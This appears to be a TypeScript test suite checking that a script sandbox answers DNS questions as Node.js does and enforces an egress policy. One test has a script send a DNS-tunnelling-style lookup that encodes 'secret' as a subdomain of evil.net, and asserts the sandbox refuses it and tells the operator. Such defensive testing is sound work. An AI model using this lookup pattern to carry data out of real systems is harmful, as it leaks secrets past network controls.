import assert from 'node:assert/strict';
import dns from 'node:dns';
import { syncBuiltinESMExports } from 'node:module';
import { after, before, describe, it } from 'node:test';
import { type DnsServer, startDnsServer } from '../../../test/kit/dns-server.ts';
import type { Launch, ScriptEgressRefusal } from '../index.ts';
import { faultCodeIn, openScriptKit, valueIn } from '../script-kit.contract.ts';
import { runBare } from './drivers/bare-script.contract.ts';
import { openRecordResolver } from './resolve-records.ts';

const zone = {
  'db.example.com': { A: ['203.0.113.7', '203.0.113.8'], AAAA: ['2001:db8:0:0:0:0:0:7'] },
  'www.example.com': { CNAME: ['db.example.com'] },
  'example.com': {
    MX: [{ priority: 10, exchange: 'mail.example.com' }],
    NS: ['ns1.example.com', 'ns2.example.com'],
    TXT: [['authSource=admin', '&replicaSet=shop'], ['v=spf1 -all']],
  },
  '_ldap._tcp.example.com': {
    SRV: [
      { priority: 0, weight: 100, port: 389, name: 'dc1.example.com' },
      { priority: 5, weight: 0, port: 636, name: 'dc2.example.com' },
    ],
  },
  '7.113.0.203.in-addr.arpa': { PTR: ['db.example.com'] },
  '7.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa': { PTR: ['db6.example.com'] },
  'broken.example.com': null,
};

/** Questions as scripts put them; each is put to `dns`, to `dns.promises` and to a resolver of either kind. */
const questions: Readonly<Record<string, readonly unknown[]>> = {
  resolve4: ['db.example.com'],
  'resolve4 with times to live': ['db.example.com', { ttl: true }],
  resolve6: ['db.example.com'],
  resolveCname: ['www.example.com'],
  resolveMx: ['example.com'],
  resolveNs: ['example.com'],
  resolvePtr: ['7.113.0.203.in-addr.arpa'],
  resolveSrv: ['_ldap._tcp.example.com'],
  resolveTxt: ['example.com'],
  resolve: ['db.example.com'],
  'resolve by its type': ['_ldap._tcp.example.com', 'SRV'],
  reverse: ['203.0.113.7'],
  'reverse of IPv6': ['2001:db8::7'],
  'resolve4 of nobody': ['nobody.example.com'],
  'resolveMx of a name without any': ['db.example.com'],
  'resolveSrv of a server that fails': ['broken.example.com'],
  'reverse of nobody': ['203.0.113.9'],
  'resolve4 of what is no name': ['x'.repeat(300)],
  'resolve of what is no type': ['db.example.com', 'NONE'],
  'reverse of what is no address': ['db.example.com'],
  'resolve4 of what is no text': [7],
};

/** Puts the question that it gets as the email. */
const putting = `async (email) => {
  const dns = require('dns');
  const { method, args } = JSON.parse(email);
  const own = (kind) => { const resolver = new kind(); resolver.setServers(dns.getServers()); return resolver; };
  const tell = async (ask) => {
    try { return await ask(); }
    catch ({ name, code, errno, syscall, hostname, message }) { return { name, code, errno, syscall, hostname, message }; }
  };
  const all = [];
  for (const one of [dns, own(dns.Resolver)])
    all.push(await tell(() => new Promise((resolve, reject) => { one[method](...args, (error, found) => error ? reject(error) : resolve(found)); })));
  for (const one of [dns.promises, require('dns/promises'), own(dns.promises.Resolver), await import('node:dns/promises')])
    all.push(await tell(() => one[method](...args)));
  return all;
}`;

/** Questions of scripts to DNS: the server asks them, and scripts hear what they would hear without a wall. */
export function describeEgressNames(level: string, launch: Launch): void {
  describe(`DNS at level ${level}`, { timeout: 60_000 }, () => {
    const refusals: ScriptEgressRefusal[] = [];
    let server: DnsServer;
    const { ask } = openScriptKit({
      launch,
      onEgressRefused: (one) => refusals.push(one),
      openRecords: () => openRecordResolver([server.address]),
    });
    const systemServers = dns.getServers();
    before(async () => {
      server = await startDnsServer(zone);
      dns.setServers([server.address]);
      syncBuiltinESMExports();
    });
    after(() => {
      dns.setServers(systemServers);
      syncBuiltinESMExports();
      server.stop();
    });

    for (const [name, args] of Object.entries(questions)) {
      it(`answers ${name} as Node does`, async () => {
        const email = JSON.stringify({ method: name.split(' ', 1)[0], args });
        const said = valueIn(await ask(putting, { email, connection: 'every question' }));
        assert.deepEqual(said, await runBare(putting, { email }));
        assert.equal(Array.isArray(said) && said.length, 6);
      });
    }

    it('has no answer to what no driver asks', async () => {
      const source = `async () => {
        const dns = require('dns').promises; const codes = {};
        for (const method of ['resolveAny', 'resolveCaa', 'resolveNaptr', 'resolveSoa', 'resolveTlsa'])
          await dns[method]('example.com').catch(({ code }) => { codes[method] = code; });
        await dns.lookupService('127.0.0.1', 22).catch(({ code }) => { codes.lookupService = code; });
        return [...new Set(Object.values(codes)), Object.keys(codes).length];
      }`;
      assert.deepEqual(valueIn(await ask(source)), ['ENOTIMP', 6]);
    });

    it('gives up what a resolver cancels', async () => {
      const source = `async () => {
        const dns = require('dns'); const resolver = new dns.promises.Resolver();
        const asked = resolver.resolveTxt('example.com').catch(({ code, syscall, hostname }) => ({ code, syscall, hostname }));
        resolver.cancel();
        return [await asked, await resolver.resolve4('db.example.com')];
      }`;
      const cancelled = { code: 'ECANCELLED', syscall: 'queryTxt', hostname: 'example.com' };
      assert.deepEqual(valueIn(await ask(source)), [cancelled, ['203.0.113.7', '203.0.113.8']]);
    });

    it('does not ask for a name that the connection cannot reach, and tells the operator', async () => {
      const source = `async (email) => {
        const dns = require('dns').promises;
        const tell = ({ code, syscall, message }) => ({ code, syscall, message });
        return [
          await dns.resolveSrv('_ldap._tcp.example.com'),
          await dns.resolveTxt('c2VjcmV0.evil.net').catch(tell),
          await dns.reverse('203.0.113.7').catch(({ code, hostname }) => ({ code, hostname })),
        ];
      }`;
      const before = server.asked.length;
      const said = valueIn(await ask(source, { allow: ['*.example.com:389'] }));
      const message = "queryTxt EACCES c2VjcmV0.evil.net - the server's egress policy refuses it";
      assert.deepEqual(said, [
        zone['_ldap._tcp.example.com'].SRV.map((one) => ({ ...one, type: 'SRV' })),
        { code: 'EACCES', syscall: 'queryTxt', message },
        { code: 'EACCES', hostname: '203.0.113.7' },
      ]);
      assert.deepEqual(server.asked.slice(before), ['SRV _ldap._tcp.example.com']);
      const told = refusals.slice(-2).map(({ host, port, why }) => `${why} ${host}:${port}`);
      assert.deepEqual(told, ['connection c2VjcmV0.evil.net:0', 'connection 7.113.0.203.in-addr.arpa:0']);
    });

    it('keeps an error with the call that it belongs to', async () => {
      const source = `(email, password, callback) => {
        require('dns').resolve4('db.example.com', () => { if (email === 'bad@example.com') throw new RangeError('mine'); setTimeout(callback, 50, null, { email }); });
      }`;
      const [good, bad] = await Promise.all(
        ['good@example.com', 'bad@example.com'].map((email) => ask(source, { email, connection: 'context' })),
      );
      assert.deepEqual(good && valueIn(good), { email: 'good@example.com' });
      assert.equal(bad && faultCodeIn(bad), 'RangeError');
    });

    for (const [name, expression] of Object.entries({
      'a look-up': "require('dns').promises.lookup(email)",
      'a question': "require('dns').promises.resolveMx(email)",
      'a connection':
        "new Promise((resolve, reject) => require('net').connect(1, email).on('error', reject))",
    })) {
      it(`survives ${name} by what is no name: a careless script takes it from who logs in`, async () => {
        const asking = { connection: `no name, ${name}` };
        const source = `async (email) => ({ code: await ${expression}.catch(({ code }) => code), pid: process.pid, n: global.n = (global.n ?? 0) + 1 })`;
        const emails = ['x'.repeat(300), `${'é'.repeat(60)}.`.repeat(4), '\ud800', 'a\0b', '..', '%'];
        const answers: unknown[] = [];
        for (const email of emails) answers.push(valueIn(await ask(source, { ...asking, email })));
        assert.partialDeepStrictEqual(answers.at(-1), { n: emails.length });
      });
    }
  });
}
